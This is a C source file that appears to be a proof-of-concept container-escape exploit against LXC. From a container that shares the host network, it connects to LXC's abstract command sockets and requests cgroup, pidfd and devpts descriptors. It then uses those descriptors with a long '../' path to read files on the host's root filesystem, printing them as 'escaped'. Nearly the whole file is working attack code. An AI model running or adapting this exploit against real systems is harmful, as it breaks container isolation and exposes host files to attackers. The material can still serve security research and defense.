/*
 * lxccommand ROOT PATH: from a container that shares the host's network, talk to the command
 * sockets of LXC (their names are abstract, /proc/net/unix has them) of the containers under ROOT,
 * as liblxc does (lxc/commands.h). Each descriptor that is handed out is used to climb to the
 * host's root and to read PATH there. Prints a line for each answer, and "N sockets" at the end.
 */
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../../../../../.."

struct request {
    int command;
    int len;
    const void *unused;
};

struct answer {
    int result;
    int len;
    void *unused;
};

/* cgroups/cgroup.h: which hierarchy's directory is asked for. */
struct cgroup_request {
    int layout;
    unsigned utilities;
    int type, fd;
    char controller[64];
} __attribute__((aligned(8)));

/* Those that give descriptors, and what they want to be told. */
static const struct {
    int number;
    const char *name, *controller;
} commands[] = {
    {3, "get_state", NULL},
    {4, "get_init_pid", NULL},
    {17, "get_cgroup2_fd", NULL},
    {18, "get_init_pidfd", NULL},
    {20, "get_limit_cgroup2_fd", NULL},
    {21, "get_devpts_fd", NULL},
    {24, "get_cgroup_fd", "memory"},
    {25, "get_limit_cgroup_fd", "memory"},
};

static void climb(int fd, const char *path)
{
    char file[4400], text[256];
    ssize_t n;
    int found;

    snprintf(file, sizeof(file), UP "%s", path);
    found = openat(fd, file, O_RDONLY | O_CLOEXEC);
    n = found < 0 ? -1 : read(found, text, sizeof(text) - 1);
    if (n > 0) {
        text[n] = '\0';
        printf("escaped: %s", text);
    }
    close(found);
}

static int connect_to(const char *name)
{
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    struct timeval limit = {.tv_sec = 2};
    size_t len = strlen(name);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (fd < 0 || len >= sizeof(to.sun_path))
        return -1;
    memcpy(to.sun_path + 1, name, len);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
    if (connect(fd, (struct sockaddr *)&to,
                (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) == 0)
        return fd;
    printf("%s: connect: %s\n", name, strerror(errno));
    close(fd);
    return -1;
}

static ssize_t ask(int fd, size_t i, char *answer, size_t size, int *got)
{
    struct request request = {.command = commands[i].number};
    struct cgroup_request cgroup = {0};
    char control[CMSG_SPACE(8 * sizeof(int))];
    struct iovec in = {answer, size};
    struct msghdr msg = {
        .msg_iov = &in, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control)};
    ssize_t n;

    *got = -1;
    if (commands[i].controller) {
        request.len = (int)sizeof(cgroup);
        snprintf(cgroup.controller, sizeof(cgroup.controller), "%s", commands[i].controller);
    }
    if (write(fd, &request, sizeof(request)) != (ssize_t)sizeof(request) ||
        (request.len && write(fd, &cgroup, sizeof(cgroup)) != (ssize_t)sizeof(cgroup)))
        return -1;
    n = recvmsg(fd, &msg, MSG_CMSG_CLOEXEC);
    for (struct cmsghdr *c = CMSG_FIRSTHDR(&msg); n > 0 && c; c = CMSG_NXTHDR(&msg, c))
        if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS)
            memcpy(got, CMSG_DATA(c), sizeof(*got));
    return n;
}

static void talk(const char *name, const char *path)
{
    for (size_t i = 0; i < sizeof(commands) / sizeof(*commands); i++) {
        char text[4096];
        struct answer answer;
        int fd = connect_to(name), got;

        if (fd < 0)
            return;
        if (ask(fd, i, text, sizeof(text), &got) >= (ssize_t)sizeof(answer)) {
            memcpy(&answer, text, sizeof(answer));
            printf("answered: %s %s %d%s\n", name, commands[i].name, answer.result,
                   got >= 0 ? ", with a descriptor" : "");
        }
        if (got >= 0) {
            climb(got, path);
            close(got);
        }
        close(fd);
    }
}

int main(int argc, char **argv)
{
    FILE *names = fopen("/proc/net/unix", "re");
    char line[1024], last[256] = "";
    int sockets = 0;

    if (argc != 3 || !names)
        return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (fgets(line, sizeof(line), names)) {
        char *at = strchr(line, '@'), *end;

        if (!at || !(end = strrchr(at, '/')) || strncmp(end, "/command", 8) != 0)
            continue;
        end[8] = '\0';
        /* A connection has its line as well. */
        if (strncmp(at + 1, argv[1], strlen(argv[1])) != 0 || strcmp(last, at) == 0)
            continue;
        snprintf(last, sizeof(last), "%s", at);
        sockets++;
        talk(at + 1, argv[2]);
    }
    fclose(names);
    printf("%d sockets\n", sockets);
    return 0;
}
